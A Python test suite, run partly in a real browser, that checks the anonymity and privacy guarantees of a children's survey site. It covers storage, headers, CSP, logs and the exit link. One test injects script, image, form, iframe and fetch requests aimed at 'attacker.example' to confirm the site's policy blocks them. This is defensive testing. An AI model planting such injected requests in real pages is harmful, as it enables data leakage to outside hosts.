"""The anonymity contract in a real browser: each test is named after its rule and plays the attacker."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import httpx
import pytest
from markupsafe import escape
from playwright.sync_api import Browser, BrowserContext, Page, Request, expect

from api import pace, render
from api.child import NEUTRAL_PAGE
from forms.load import load_survey
from forms.survey import Survey
from tests.functional.answering import answering
from tests.functional.browser import launch
from tests.functional.door import Wave
from tests.functional.html_form import read_page
from tests.functional.walking import answers_for, send, start, walk

CANARY = "Zquorvexil"
FORMS = list(load_survey().forms)
STORES = """async () => ({
    local: localStorage.length, session: sessionStorage.length, cookie: document.cookie,
    databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    files: (await Array.fromAsync((await navigator.storage.getDirectory()).keys())).length,
})"""


def answer(page: Page, door: str, form_id: str) -> None:
    """Answer a whole form in the browser, with a canary in every box."""
    for _ in answering(page, door, form_id, CANARY):
        pass


@pytest.fixture(scope="module")
def journey(chromium: Browser, door: str) -> Iterator[tuple[Page, BrowserContext, list[Request]]]:
    """A browser that has just answered a whole form, and every request it made."""
    with chromium.new_context() as context:
        requests: list[Request] = []
        context.on("request", lambda request: requests.append(request))  # noqa: PLW0108 - Playwright marks its handlers
        page = context.new_page()
        answer(page, door, "9-12")
        assert page.url == f"{door}/9-12/thank-you"
        yield page, context, requests


Journey = tuple[Page, BrowserContext, list[Request]]


def test_a1_nothing_is_left_in_any_store_of_the_browser(journey: Journey) -> None:
    page, context, requests = journey
    assert context.cookies() == []
    assert page.evaluate(STORES) == {"local": 0, "session": 0, "cookie": "", "databases": 0, "caches": 0, "workers": 0, "files": 0}
    for request in requests:
        response = request.response()
        assert response is None or "set-cookie" not in response.all_headers()
        assert "cookie" not in request.all_headers()


def test_a3_every_request_goes_to_us_and_says_nothing_of_where_it_came_from(journey: Journey, door: str) -> None:
    _, _, requests = journey
    assert len(requests) > 20
    for request in requests:
        assert request.url.startswith(door), request.url
        assert not request.all_headers().get("referer")


def test_a3_the_browser_refuses_whatever_is_smuggled_into_a_page(chromium: Browser, door: str) -> None:
    with chromium.new_context() as context:
        asked: list[Request] = []
        context.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - Playwright marks its handlers
        page = context.new_page()
        page.goto(f"{door}/9-12")
        page.evaluate(
            """() => {
                const script = document.createElement("script");
                script.textContent = "window.smuggled = true";
                const picture = new Image();
                picture.src = "https://attacker.example/x.png";
                const form = document.createElement("form");
                form.method = "post";
                form.action = "https://attacker.example/";
                const frame = document.createElement("iframe");
                frame.src = "https://attacker.example/";
                document.body.append(script, picture, form, frame);
                form.submit();
                fetch("https://attacker.example/").catch(() => { window.refused = true });
            }"""
        )
        page.wait_for_function("window.refused")
        assert page.evaluate("window.smuggled") is None
        assert {request.failure for request in asked if "attacker" in request.url} <= {"csp"}  # announced, and then not sent
        assert page.url == f"{door}/9-12"


@pytest.mark.parametrize("path", ["/", "/9-12", "/9-12/thank-you", "/9-12/exit", "/parents", "/nothing-here", "/health/live"])
def test_a3_a10_every_page_forbids_third_parties_and_storing(client: httpx.Client, path: str) -> None:
    headers = client.get(path).headers
    policy = dict(part.split(" ", 1) for part in headers["content-security-policy"].split("; "))
    assert policy.pop("default-src") == policy.pop("base-uri") == policy.pop("frame-ancestors") == "'none'"
    assert set(policy.values()) == {"'self'"}
    assert headers["referrer-policy"] == "no-referrer"
    assert "no-store" in headers["cache-control"]
    assert not {"set-cookie", "server", "etag", "last-modified"} & set(headers)


def test_a9_no_answer_is_ever_in_an_address(journey: Journey) -> None:
    _, _, requests = journey
    assert [request for request in requests if CANARY in (request.post_data or "")], "the canaries were not sent at all"
    for request in requests:
        assert CANARY not in request.url
        assert "?" not in request.url


def test_a10_back_and_forward_after_the_end_show_no_answer(chromium: Browser, door: str) -> None:
    with chromium.new_context() as context:
        page = context.new_page()
        page.goto(f"{door}/robots.txt")
        answer(page, door, "9-12")
        for move in (page.go_back, page.go_back, page.go_forward, page.go_forward):
            move(wait_until="commit")
            assert CANARY not in page.content()
            assert not page.locator("input[type=hidden]").count()


def test_a10_a_page_that_comes_back_from_the_cache_is_loaded_anew(chromium: Browser, door: str) -> None:
    """Chromium keeps pages that nothing was sent from yet, `no-store` or not; others' browsers keep more."""
    # A browser of its own, which is not asked to close its pages first: one that it keeps may never say that it is closed.
    with launch(chromium.browser_type, as_people_have_it=True) as browser:
        page = browser.new_page()
        # How the browser brought the page back is noted before our own script runs, where a reload leaves it.
        page.add_init_script("addEventListener('pageshow', event => { if (event.persisted) sessionStorage.setItem('came', 'back') })")
        page.goto(f"{door}/6-8")
        page.evaluate("window.mark = true")
        page.goto(f"{door}/help")
        page.go_back(wait_until="commit")
        page.wait_for_function("!window.mark && document.readyState === 'complete'")
        assert page.evaluate("sessionStorage.getItem('came')") == "back", "the browser kept no page: nothing was tried"


def test_a10_back_to_the_questions_has_forgotten_what_was_answered(chromium: Browser, door: str) -> None:
    with chromium.new_context() as context:
        page = context.new_page()
        page.goto(f"{door}/6-8")
        page.click("button[value=start]")
        page.check("input[value=sad]")
        page.click("button[value=next]")
        expect(page.locator("input[type=hidden][name=feelings]")).to_have_count(1)
        page.goto(f"{door}/help")
        page.go_back(wait_until="commit")
        expect(page.locator("button[value=start]")).to_be_visible()
        assert not page.locator("input[type=hidden]").count()
        assert not page.locator("input:checked").count()


def test_a10_nothing_is_left_to_see_in_a_page_that_was_left(chromium: Browser, door: str) -> None:
    """For the moment before a page that comes back is loaded anew, and for whatever else keeps pages."""
    with chromium.new_context() as context:
        page = context.new_page()
        page.goto(f"{door}/6-8")
        page.click("button[value=start]")
        page.check("input[value=sad]")
        page.click("button[value=next]")
        expect(page.locator("input[type=hidden][name=feelings]")).to_have_count(1)
        assert page.evaluate("dispatchEvent(new PageTransitionEvent('pagehide')); document.documentElement.outerHTML").find("<input") < 0
        assert page.title() == ""


def test_a10_the_end_is_a_page_of_its_own_that_no_post_leads_back_to(client: httpx.Client, survey: Survey) -> None:
    page, last, _ = walk(client, survey.forms["6-8"], seed=2)
    reply = send(client, "6-8", page.post("next", *last))
    assert (reply.status_code, reply.content) == (303, b"")


def test_a11_the_browser_is_told_to_clear_at_the_end_and_at_the_way_out(client: httpx.Client) -> None:
    ends = [f"/{form_id}/{page}" for form_id in FORMS for page in ("thank-you", "already-sent", "exit")]
    for end in ("/exit", *ends):
        assert client.get(end).headers["clear-site-data"] == '"cache", "storage"'


@pytest.mark.parametrize("end", ["/9-12/thank-you", "/9-12/already-sent"])
def test_a11_a_browser_that_obeys_has_nothing_left_that_a_page_stored(chromium: Browser, door: str, end: str) -> None:
    with chromium.new_context() as context:
        page = context.new_page()
        page.goto(f"{door}/9-12")
        page.evaluate(f"localStorage.setItem('x', '{CANARY}')")  # as an extension or another page of this host might
        assert page.evaluate("localStorage.length") == 1
        page.goto(door + end)
        assert page.evaluate("localStorage.length") == 0


@pytest.mark.parametrize("form_id", FORMS)
def test_a12_no_box_sends_its_words_anywhere(client: httpx.Client, survey: Survey, form_id: str) -> None:
    form = survey.forms[form_id]
    page, chance, boxes = start(client, form_id), random.Random(1), 0
    while True:
        reply = send(client, form_id, page.post("next", *answers_for(form, page, chance)))
        if reply.status_code == 303:
            break
        for tag in re.findall(r"<(?:textarea|input)\b[^>]*>", reply.text):
            if "textarea" in tag or 'type="text"' in tag:
                boxes += 1
                for wanted in ('spellcheck="false"', 'autocomplete="off"', 'autocorrect="off"', 'autocapitalize="off"', 'translate="no"'):
                    assert wanted in tag
            elif 'type="hidden"' not in tag:
                assert 'autocomplete="o' in tag
        page = read_page(reply.text)
    assert boxes


LINK = re.compile(r"<a [^>]*\bdata-leave\b[^>]*>")
NOTE = re.compile(r'id="leave-note">([^<]*)<')


def assert_way_out(html: str, exit_path: str) -> None:
    """One way out, before anything else that can be pressed on the page but the link to its content; and it is honest about history."""
    (link,) = LINK.findall(html)
    assert f'href="{exit_path}"' in link
    assert 'aria-describedby="leave-note"' in link
    assert "hidden" not in link
    (note,) = NOTE.findall(html)
    assert "remember" in note or "history" in note  # it does not erase what the browser remembers
    before = html[: html.index(link)]
    assert before.count("<a ") == 2  # skip to the content, and the survey's name
    assert "<button" not in before
    assert "<input" not in before


@pytest.mark.parametrize("form_id", FORMS)
def test_a13_every_page_of_a_form_has_a_way_out_that_is_honest(
    client: httpx.Client, survey: Survey, monkeypatch: pytest.MonkeyPatch, form_id: str
) -> None:
    form, seen = survey.forms[form_id], 0
    for name in ("", "/parents", "/help", "/risks", "/thank-you", "/already-sent", "/exit"):
        assert_way_out(client.get(f"/{form_id}{name}").text, f"/{form_id}/exit")
    page, chance = start(client, form_id), random.Random(3)
    while True:
        for action, answers in (("next", []), ("next", answers_for(form, page, chance))):  # an error, where one can be made; then on
            reply = send(client, form_id, page.post(action, *answers))
            if reply.status_code != 303:
                assert_way_out(reply.text, f"/{form_id}/exit")
                seen += 1
        if reply.status_code == 303:
            break
        page = read_page(reply.text)
    assert seen > len(form.pages)  # most pages twice
    assert_way_out(send(client, form_id, [("action", "jump")]).text, f"/{form_id}/exit")  # not understood
    monkeypatch.setitem(pace.LIMITS, pace.What.POST, 0)
    assert_way_out(send(client, form_id, [("action", "start")]).text, f"/{form_id}/exit")  # to be sent again
    moment = datetime.fromisoformat("2026-04-20T09:00+01:00")
    for html in (
        render.not_open(form, moment),
        render.page_of_form("message", form, message="closed", again=None),
        render.page_of_form("message", form, message="paused", again=None),
    ):
        assert_way_out(html, f"/{form_id}/exit")


@pytest.mark.parametrize("path", ["/", "/parents", "/teachers", "/help", "/risks", "/exit", "/nothing-here"])
def test_a13_every_page_beside_the_forms_has_a_way_out_that_is_honest(client: httpx.Client, path: str) -> None:
    assert_way_out(client.get(path).text, "/exit")


def test_a13_the_way_out_leads_to_a_page_that_anybody_might_read_and_says_what_it_did(client: httpx.Client, survey: Survey) -> None:
    for form in survey:
        left = client.get(f"/{form.id}/exit")
        assert left.headers["refresh"] == f"0; url={NEUTRAL_PAGE}"
        assert str(escape(form.words["exited_text"])) in left.text
    assert client.get("/exit").headers["refresh"] == f"0; url={NEUTRAL_PAGE}"


@pytest.mark.parametrize("where", ["", "question", "/help", "/thank-you"])
def test_a13_one_press_leaves_and_back_finds_no_page_of_the_survey(chromium: Browser, door: str, where: str) -> None:
    with chromium.new_context() as context:
        page = context.new_page()
        page.route(f"{NEUTRAL_PAGE}**", lambda route: route.fulfill(body="<title>Weather</title>"))
        page.goto(f"{door}/6-8{'' if where == 'question' else where}")
        if where == "question":
            page.click("button[value=start]")
            page.check("input[value=sad]")
        page.click("[data-leave]")
        page.wait_for_url(NEUTRAL_PAGE)
        page.go_back()
        assert page.url == "about:blank"


def test_a15_a_double_click_on_send_stores_one_response(chromium: Browser, door: str, wave: Wave) -> None:
    before = wave.store.count()
    with chromium.new_context() as context:
        page = context.new_page()
        page.goto(f"{door}/4-5")
        page.click("button[value=start]")
        for number in range(3):
            page.wait_for_function("n => document.title.includes(n)", arg=f"{number + 1} ")
            page.locator("input[type=checkbox]").last.check()
            page.click("button[value=next]")
        expect(page.locator("textarea")).to_be_visible()
        page.locator("input[name=parent_important]").last.check()
        page.dblclick("button[value=next]")
        page.wait_for_url(re.compile("thank-you|already-sent"))
    assert wave.store.count() == before + 1


def test_a15_a_post_replayed_after_the_end_shows_no_answer_but_says_it_was_sent(client: httpx.Client, survey: Survey) -> None:
    """What Back and "send the form again" do in a browser without JavaScript, on a tablet that two children share."""
    page, last, _ = walk(client, survey.forms["9-12"], seed=1)
    middle = page.post("back", *last)
    assert send(client, "9-12", page.post("next", *last)).headers["location"] == "/9-12/thank-you"
    replayed = send(client, "9-12", middle)
    assert replayed.headers["location"] == "/9-12/already-sent"
    assert "quotes" not in replayed.text


def test_a2_a_crash_and_a_refusal_leave_no_word_of_the_child_in_any_log(
    client: httpx.Client, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str], survey: Survey
) -> None:
    caplog.set_level(0)
    page = start(client, "9-12")
    for pairs in ([*page.hidden, ("action", "next"), (CANARY, CANARY)], [*page.hidden, ("action", CANARY)]):
        assert send(client, "9-12", pairs).status_code == 400
    client.post("/9-12", content=CANARY.encode() + b"\xff%zz", headers={"content-type": "application/x-www-form-urlencoded"})
    client.get(f"/{CANARY}")
    output = capfd.readouterr()
    door_records = [record for record in caplog.records if not record.name.startswith(("httpx", "httpcore", "asyncio"))]
    assert CANARY not in output.out + output.err + "".join(record.getMessage() for record in door_records)
    assert not [record for record in door_records if record.name.startswith("uvicorn.access")]


def test_a2_the_server_believes_no_header_about_who_is_asking_and_keeps_none(wave: Wave, client: httpx.Client, survey: Survey) -> None:
    client.headers.update(
        {"user-agent": CANARY, "cookie": f"a={CANARY}", "x-forwarded-for": "203.0.113.77", "referer": f"https://{CANARY}.example/"}
    )
    page, last, _ = walk(client, survey.forms["4-5"], seed=9)
    assert send(client, "4-5", page.post("next", *last)).status_code == 303
    for path in Path(wave.settings.home).rglob("*"):
        if path.is_file():
            stored = path.read_bytes()
            assert CANARY.encode() not in stored, path.name
            assert b"203.0.113.77" not in stored, path.name
